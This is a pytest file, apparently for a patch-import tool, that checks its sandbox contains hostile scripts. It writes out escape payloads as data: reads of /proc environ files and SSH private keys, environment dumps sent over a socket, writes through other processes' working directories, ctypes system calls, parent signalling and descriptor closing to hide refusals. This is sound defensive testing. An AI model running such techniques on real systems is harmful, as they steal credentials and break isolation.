"""Hostile anchor scripts under `--run-scripts` (issue 37, E1 E2 E9 E12): each escape the red
team found, as the script of a small club-shaped fixture, run behind the sandbox. Each is
refused or without effect: nothing outside the scratch tree changes (a sentinel file, the
project's pyproject.toml and patches/), no secret of the parent (a `GITHUB_TOKEN`, a key in
`$HOME/.ssh`) is in anything the import writes, no socket to the host's 127.0.0.1 connects, and
nothing the script forked outlives the import.

The escapes are written so that even a sandbox that failed open could harm nothing beyond the
test's own tree: writes through another process's `/proc/<pid>/cwd` go only where that cwd is
under the test's folder (a decoy process of the test's own, and the test's throwaway project,
which is the pytest process's cwd during the test), and signals go only to the test's decoy,
its own parent and, from inside a fresh pid namespace only, to -1. An earlier version wrote to
the cwd of every process it could reach (the repository's pyproject.toml among them, when the
scripts ran under the audit hook alone). Each test also checks that the repository's own
pyproject.toml is byte for byte what it was."""

from __future__ import annotations

import hashlib
import json
import os
import secrets
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from patchset.importers import club, import_collection, sandbox
from patchset.importers.model import Collected
from patchset.sources import parse_source
from tests.helpers import import_fixtures as fx

TOKEN = "ghp_FAKE" + "0123456789abcdef" * 2
KEY = "-----BEGIN FAKE OPENSSH PRIVATE KEY----- do-not-leak"
REPOSITORY = Path(__file__).resolve().parents[1]

# Each script makes its ordinary edit at the end, with whatever it managed to read appended:
# if the escape read a secret, the secret would land in the imported sites.toml.
HEAD = """\
import ctypes, gc, os, signal, socket, sys, time
T = '/usr/local/lib/python3.12/dist-packages/vllm/x.py'
OUTDIR, SENTINEL, PROJ, HOMEDIR = {outdir!r}, {sentinel!r}, {proj!r}, {home!r}
PORT, PARENT, MARK, ROOT, DECOY = {port}, {parent}, {mark!r}, {root!r}, {decoy}
LEAK = []
def attempt(f):
    try:
        r = f()
        if isinstance(r, (bytes, str)):
            LEAK.append(r if isinstance(r, str) else r.decode(errors='replace'))
    except BaseException as e:
        LEAK.append(type(e).__name__)
"""
TAIL = """
for p in ('/proc/1/environ', '/proc/%d/environ' % os.getppid(), '/proc/%d/environ' % PARENT,
          HOMEDIR + '/.ssh/id_rsa', os.path.expanduser('~/.ssh/id_rsa')):
    attempt(lambda p=p: open(p, 'rb').read())
attempt(lambda: repr(dict(os.environ)))
src = open(T).read()
leak = ' '.join(LEAK).replace(chr(10), ' ').replace(chr(0), ' ')
open(T, 'w').write(src.replace('    return z * 2\\n', '    return z * 4  # ' + leak + '\\n', 1))
"""

ESCAPES = {
    "dir_fd-open": """
d = os.open(OUTDIR, os.O_RDONLY)
attempt(lambda: os.write(os.open('sentinel.txt', os.O_WRONLY | os.O_TRUNC, dir_fd=d), b'pwned'))
""",
    "dir_fd-unlink": """
attempt(lambda: os.unlink('sentinel.txt', dir_fd=os.open(OUTDIR, os.O_RDONLY)))
""",
    "dir_fd-rename": """
d = os.open(OUTDIR, os.O_RDONLY)
attempt(lambda: os.rename('sentinel.txt', 'gone', src_dir_fd=d, dst_dir_fd=d))
""",
    "hard-link": """
attempt(lambda: os.link(SENTINEL, 'hl'))
attempt(lambda: open('hl', 'w').write('pwned'))
""",
    "frames": """
f = sys._getframe()
while f is not None:
    if 'inside' in f.f_globals:
        f.f_globals['inside'] = lambda path: True
    f = f.f_back
attempt(lambda: open(SENTINEL, 'w').write('pwned'))
attempt(lambda: open(PROJ + '/pyproject.toml', 'a').write('# pwned'))
""",
    "gc-root": """
for o in gc.get_objects():
    if isinstance(o, dict) and 'ROOT' in o and 'inside' in o:
        o['ROOT'] = '/'
attempt(lambda: open(SENTINEL, 'w').write('pwned'))
attempt(lambda: open(PROJ + '/patches/planted.txt', 'w').write('pwned'))
""",
    "ctypes-open": """
libc = ctypes.CDLL(None)
fd = libc.open(SENTINEL.encode(), os.O_WRONLY | os.O_TRUNC)
attempt(lambda: libc.write(fd, b'pwned', 5))
""",
    "ctypes-system": """
libc = ctypes.CDLL(None)
libc.system(('echo pwned > %s; echo "# pwned" >> %s/pyproject.toml; touch %s/patches/planted'
             % (SENTINEL, PROJ, PROJ)).encode())
""",
    "proc-parent-cwd": """
for pid in [os.getppid(), PARENT, DECOY] + [int(p) for p in os.listdir('/proc') if p.isdigit()]:
    def go(pid=pid):
        d = os.open('/proc/%d/cwd' % pid, os.O_RDONLY)
        if pid in (PARENT, DECOY):
            LEAK.append('reached-cwd-of-%d' % pid)
        if not os.readlink('/proc/%d/cwd' % pid).startswith(ROOT + '/'):
            return  # never beyond the test's own folder, however open the sandbox is
        os.write(os.open('pyproject.toml', os.O_WRONLY | os.O_APPEND, dir_fd=d), b'# pwned')
        os.mkdir('patches/planted', dir_fd=d)
    attempt(go)
""",
    "socket": """
def send():
    s = socket.create_connection(('127.0.0.1', PORT), timeout=2)
    s.sendall(repr(dict(os.environ)).encode())
attempt(send)
""",
    "signal-parent": """
for pid in (os.getppid(), PARENT, DECOY, 1):
    attempt(lambda pid=pid: os.kill(pid, signal.SIGSTOP))
if os.getpid() < 100:  # in a fresh pid namespace: -1 is the sandbox's own processes only
    attempt(lambda: os.kill(-1, signal.SIGSTOP))
""",
    "forked-setsid-child": """
libc = ctypes.CDLL(None)
if libc.fork() == 0:
    libc.setsid()
    libc.prctl(15, MARK.encode(), 0, 0, 0)
    time.sleep(1.5)
    attempt(lambda: open(SENTINEL, 'w').write('pwned'))
    os._exit(0)
""",
}


def _procs_named(mark: str) -> list[int]:
    found = []
    for proc in Path("/proc").iterdir():
        try:
            if proc.name.isdigit() and (proc / "comm").read_text().strip() == mark:
                found.append(int(proc.name))
        except OSError:
            continue
    return found


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest() if path.exists() else "absent"


@pytest.fixture(autouse=True)
def _repository_untouched() -> Iterator[None]:
    """The repository's pyproject.toml and the pytest process's starting cwd's, unchanged."""
    watched = {REPOSITORY / "pyproject.toml", Path.cwd() / "pyproject.toml", Path("/planted.txt")}
    before = {p: _digest(p) for p in watched}
    yield
    assert {p: _digest(p) for p in watched} == before


def _project(proj: Path) -> None:
    """A throwaway copy of a project: the repository's pyproject.toml, a patch of its own."""
    (proj / "patches" / "mine").mkdir(parents=True)
    (proj / "pyproject.toml").write_bytes((REPOSITORY / "pyproject.toml").read_bytes())
    (proj / "patches" / "mine" / "patch.toml").write_text("id = 'mine'\n")


@pytest.fixture
def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[dict[str, Any]]:
    """A throwaway project (pyproject.toml, patches/) as the working folder, a decoy process
    (another of the user's processes) with its cwd in a second one, a sentinel outside, and the
    parent's secrets: a token in the environment, a key in a home of its own."""
    proj = tmp_path / "project"
    _project(proj)
    _project(tmp_path / "decoy")
    outdir = tmp_path / "outside"
    outdir.mkdir()
    (outdir / "sentinel.txt").write_text("before\n")
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(KEY + "\n")
    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.chdir(proj)
    decoy = subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(120)"], cwd=tmp_path / "decoy"
    )
    try:
        yield {"proj": proj, "outdir": outdir, "home": home, "root": tmp_path, "decoy": decoy}
    finally:
        decoy.kill()
        decoy.wait()


def _stopped(pid: int) -> bool:
    return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] in "tT"


def _state(world: dict[str, Any]) -> tuple[str, ...]:
    found = [(world["outdir"] / "sentinel.txt").read_text()]
    for proj in (world["proj"], world["root"] / "decoy"):
        found.append((proj / "pyproject.toml").read_text())
        found += sorted(str(p.relative_to(proj)) for p in (proj / "patches").rglob("*"))
    return tuple(found)


def _collect(world: dict[str, Any], script: str) -> Collected:
    checkout = fx.club(world["root"] / "c")
    (checkout / "models/m1/vllm/patches/anchor/patch_x.py").write_text(script)
    sources = [parse_source(str(fx.release(world["root"] / "r20", "0.20.0")))]
    return club.collect(checkout, sources=sources, run_scripts=True, timeout=20)


@pytest.mark.parametrize("escape", sorted(ESCAPES))
def test_escape_is_refused_or_without_effect(world: dict[str, Any], escape: str) -> None:
    before = _state(world)
    mark = "e" + secrets.token_hex(6)
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(4)
        listener.settimeout(0.2)
        script = (
            HEAD.format(
                outdir=str(world["outdir"]),
                sentinel=str(world["outdir"] / "sentinel.txt"),
                proj=str(world["proj"]),
                home=str(world["home"]),
                port=listener.getsockname()[1],
                parent=os.getpid(),
                mark=mark,
                root=str(world["root"]),
                decoy=world["decoy"].pid,
            )
            + ESCAPES[escape]
            + TAIL
        )
        started = time.monotonic()
        collected = _collect(world, script)
        assert time.monotonic() - started < 20  # signals to its parent stopped nothing
        assert _procs_named(mark) == []  # nothing it forked outlives the import
        assert not _stopped(world["decoy"].pid)  # nor signals another of the user's processes
        with pytest.raises(TimeoutError):
            listener.accept()  # no connection reached the host's loopback
    time.sleep(2)  # past the forked child's 1.5 s
    assert _state(world) == before
    written = json.dumps(
        [[d.meta, d.payloads] for d in collected.drafts]
        + [[e.source_id, e.reasons] for e in collected.entries],
        default=str,
    )
    assert TOKEN not in written and "do-not-leak" not in written
    assert "reached-cwd-of" not in written  # no other process's cwd opened
    assert str(world["home"]) not in written  # the parent's real HOME is not even named
    # refused, or imported with its own edit (made in the scratch copy) and nothing else
    refused = [e for e in collected.entries if e.source_id == "m-anchor"]
    drafts = [d for d in collected.drafts if d.id == "club-m-anchor"]
    assert len(refused) + len(drafts) == 1
    if refused:
        assert refused[0].status == "not-imported", refused  # refused, or it failed in there
    else:
        assert "return z * 4" in drafts[0].payloads["sites.toml"]


def test_escape_written_to_a_registry_carries_no_secret(world: dict[str, Any]) -> None:
    """The whole import (the registry written) of a script that tries every read."""
    checkout = fx.club(world["root"] / "c")
    script = (
        HEAD.format(
            outdir=str(world["outdir"]),
            sentinel="/nonexistent",
            proj=str(world["proj"]),
            home=str(world["home"]),
            port=1,
            parent=os.getpid(),
            mark="x",
            root=str(world["root"]),
            decoy=world["decoy"].pid,
        )
        + TAIL
    )
    (checkout / "models/m1/vllm/patches/anchor/patch_x.py").write_text(script)
    specs = [str(fx.release(world["root"] / "r20", "0.20.0"))]
    registry = world["root"] / "registry"
    import_collection("club-3090", checkout, registry, sources=specs, run_scripts=True)
    texts = [p.read_text(errors="replace") for p in registry.rglob("*") if p.is_file()]
    assert any("return z * 4" in t for t in texts)  # the script ran and its edit is there
    assert not [t for t in texts if TOKEN in t or "do-not-leak" in t]


@pytest.mark.parametrize(
    ("blind", "named"),
    [
        ("", "(a write or a process its launcher refused; it silenced the report)"),
        # the hook blinded too: the write lands in the sandbox's root, found by the parent
        (
            "import gc\nfor o in gc.get_objects():\n"
            "    if isinstance(o, dict) and 'inside' in o:\n"
            "        o['inside'] = lambda path: True\n",
            "/planted.txt",
        ),
    ],
)
def test_a_script_cannot_silence_its_refusal(world: dict[str, Any], blind: str, named: str) -> None:
    """E12: it closes every descriptor (the launcher's report and stderr), then writes outside
    its tree and carries on to make its edit: refused all the same."""
    script = (
        "import os\nT = '/usr/local/lib/python3.12/dist-packages/vllm/x.py'\n"
        f"{blind}os.closerange(2, 1024)\n"
        "try:\n    open('/planted.txt', 'w').write('x')\nexcept BaseException:\n    pass\n"
        "open(T, 'w').write(open(T).read().replace('return z * 2\\n', 'return z * 4\\n', 1))\n"
    )
    collected = _collect(world, script)
    entry = next(e for e in collected.entries if e.source_id == "m-anchor")
    assert entry.reasons == [f"refused: patch_x.py wrote outside its scratch tree: {named}"]


def test_script_output_is_capped(tmp_path: Path) -> None:
    """E12: 30 MB of output is read and dropped past the cap, not held."""
    tree, box = tmp_path / "tree", tmp_path / "box"
    tree.mkdir()
    box.mkdir()
    got = sandbox.run(
        [
            sandbox.interpreter(),
            "-c",
            "import sys\nfor _ in range(30):\n"
            "    sys.stdout.write('x' * (1 << 20))\nprint('last line')",
        ],
        tree=tree,
        box=box,
        cwd=tree,
        env={},
        timeout=60,
    )
    assert got.code == 0
    assert len(got.output) <= sandbox.OUTPUT_CAP + 4097
    assert got.dropped >= 29 << 20
    assert got.output.rstrip().endswith(b"last line")


def test_no_sandbox_refuses_run_scripts(
    world: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Without bubblewrap, `--run-scripts` is refused in one line saying what to install."""
    empty = world["root"] / "nopath"
    empty.mkdir()
    monkeypatch.setenv("PATH", str(empty))
    with pytest.raises(sandbox.SandboxError) as caught:
        _collect(world, fx.ANCHOR_SCRIPT)
    assert "apt-get install bubblewrap" in str(caught.value)
    assert "\n" not in str(caught.value)
    assert caught.value.exit_code == 3
